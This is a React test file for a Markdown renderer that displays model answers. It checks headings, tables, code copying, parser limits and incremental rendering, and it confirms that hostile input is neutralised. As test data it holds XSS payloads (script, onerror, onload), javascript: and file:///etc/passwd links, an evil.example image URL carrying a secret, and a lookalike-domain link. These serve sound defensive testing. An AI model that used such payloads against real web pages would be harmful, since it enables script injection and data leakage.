import { render, screen, waitFor, within } from "@testing-library/react";
import userEvent from "@testing-library/user-event";
import { expect, test } from "vitest";
import { useProgram } from "../../../state/program";
import { expectNoAxeViolations } from "../../../test/axe";
import { sampleProgram } from "../../../test/samples";
import { AnswerText } from "./AnswerText";

const show = (text: string) => render(<AnswerText text={text} isInView />);

test("Markdown as people write it is drawn, and free of axe's complaints", async () => {
  const { container } = show(
    "## Head\n\nA **strong** word, ~~gone~~.\n\n- one\n- [x] two\n\n| a | b |\n|:--|--:|\n| c | d |\n\n```ts\nlet a = 1;\n```\n\n> said",
  );
  expect(screen.getByRole("heading", { name: "Head", level: 4 })).toBeInTheDocument();
  expect(screen.getByText("strong").tagName).toBe("STRONG");
  expect(within(screen.getByRole("figure", { name: "Table" })).getAllByRole("cell")).toHaveLength(2);
  expect(screen.getByText("let a = 1;")).toBeInTheDocument();
  expect(screen.getByText("done:")).toBeInTheDocument();
  expect(container.querySelector("input, style, [style*=position]")).toBeNull();
  await expectNoAxeViolations(container);
});

test("headings of any level don't upset the page's outline", async () => {
  const { container } = show("# a\n\n###### b\n\n### c");
  expect(screen.getAllByRole("heading", { level: 4 })).toHaveLength(3);
  await expectNoAxeViolations(container);
});

test.each([
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<iframe src='https://evil.example'></iframe>",
  "<style>*{display:none}</style>",
  "<svg/onload=alert(1)>",
])("HTML is shown as the text it is: %s", (html) => {
  const { container } = show(`before ${html}\n\n${html}`);
  expect(container.querySelector("script, img, iframe, style, svg, [onerror], [onload]")).toBeNull();
  expect(container.textContent).toContain(html);
});

test("no image is loaded; its words are shown", () => {
  const { container } = show("![a cat](https://evil.example/c.png?q=secret) ![](data:image/png;base64,AA)");
  expect(container.querySelector("img")).toBeNull();
  expect(container.innerHTML).not.toContain("evil.example");
  expect(screen.getByText("Image, not loaded: a cat")).toBeInTheDocument();
  expect(screen.getByText("Image, not loaded")).toBeInTheDocument();
});

test.each([
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "data:text/html,x",
  "file:///etc/passwd",
  "http://plain.example/",
  "//host.example/x",
  "app://homeport/index.html",
  "https://user:word@evil.example/",
])("%s is no link, and says so", (address) => {
  show(`[press](${address})`);
  expect(screen.queryByRole("link")).toBeNull();
  expect(screen.getByText(`(not opened, it is no https address: ${address})`)).toBeInTheDocument();
});

test("a link within the answer is only its words", () => {
  show("[up](#/settings) and a note[^1]\n[^1]: Here.");
  expect(screen.queryByRole("link")).toBeNull();
});

test("an https link leaves by the browser, with its real host beside it", () => {
  show("[https://good.example](https://evil.example/x) and https://same.example/y and [x](https://аpple.example/)");
  const [spoof, same, lookalike] = screen.getAllByRole("link");
  expect(spoof).toHaveAttribute("href", "https://evil.example/x");
  expect(spoof).toHaveAttribute("target", "_blank");
  expect(spoof).toHaveAttribute("rel", "noreferrer");
  expect(screen.getByText("(evil.example)")).toBeInTheDocument();
  expect(same).toHaveTextContent("https://same.example/y");
  expect(screen.queryByText("(same.example)")).toBeNull();
  expect(lookalike?.nextElementSibling?.textContent).toContain("(xn--");
});

test("the window opens listed hosts only; any other address is shown whole, to be copied", async () => {
  useProgram.setState({ info: sampleProgram({ shell: "electron" }) });
  show("[a](https://other.example/a?b=c) [b](https://docs.docker.com/x)");
  const stay = (event: Event) => event.preventDefault();
  window.addEventListener("click", stay);
  await userEvent.click(screen.getByRole("link", { name: "a" }));
  const dialog = screen.getByRole("dialog", { name: "A link the model wrote" });
  expect(within(dialog).getByText("https://other.example/a?b=c")).toBeInTheDocument();
  await expectNoAxeViolations(dialog);
  await userEvent.click(within(dialog).getByRole("button", { name: "Close" }));
  await userEvent.click(screen.getByRole("link", { name: "b" }));
  expect(screen.queryByRole("dialog")).toBeNull();
  window.removeEventListener("click", stay);
});

test("code can be copied as it came, its line break at the end left out", async () => {
  const user = userEvent.setup();
  show("```python\nprint(1)\n\nprint(2)\n```\n");
  await user.click(screen.getByRole("button", { name: "Copy: code, python" }));
  expect(await navigator.clipboard.readText()).toBe("print(1)\n\nprint(2)");
});

test("a half-open fence and its hostile language are code", () => {
  const { container } = show(`\`\`\`${"x".repeat(400)}\n<b>not bold`);
  expect(screen.getByRole("figure", { name: "Code: code" })).toHaveTextContent("<b>not bold");
  expect(container.querySelector("b")).toBeNull();
});

test("what would make the parser run for ever is shown as it came", () => {
  const text = "> - ".repeat(600);
  const { container } = show(text);
  expect(container.querySelector("blockquote")).toBeNull();
  expect(container.textContent).toContain(text.trim());
});

test("of 100,000 characters the end is there at once, and the rest in the frames after", async () => {
  const text = Array.from({ length: 1000 }, (_, index) => `Paragraph **${index}** ${"word ".repeat(18)}`).join("\n\n");
  expect(text.length).toBeGreaterThan(100_000);
  const { container } = show(text);
  expect(screen.getByText("999")).toBeInTheDocument();
  const atOnce = container.querySelectorAll("p").length;
  expect(atOnce).toBeLessThan(60);
  await waitFor(() => expect(container.querySelectorAll("p").length).toBeGreaterThan(atOnce + 2));
});

test("while it grows only its last block is parsed again", () => {
  const first = "Some **kept** words\n\n";
  const { rerender, container } = show(`${first}gro`);
  const kept = screen.getByText("kept");
  rerender(<AnswerText text={`${first}growing *more*`} isInView />);
  expect(screen.getByText("kept")).toBe(kept);
  expect(container.querySelector("em")).toHaveTextContent("more");
});
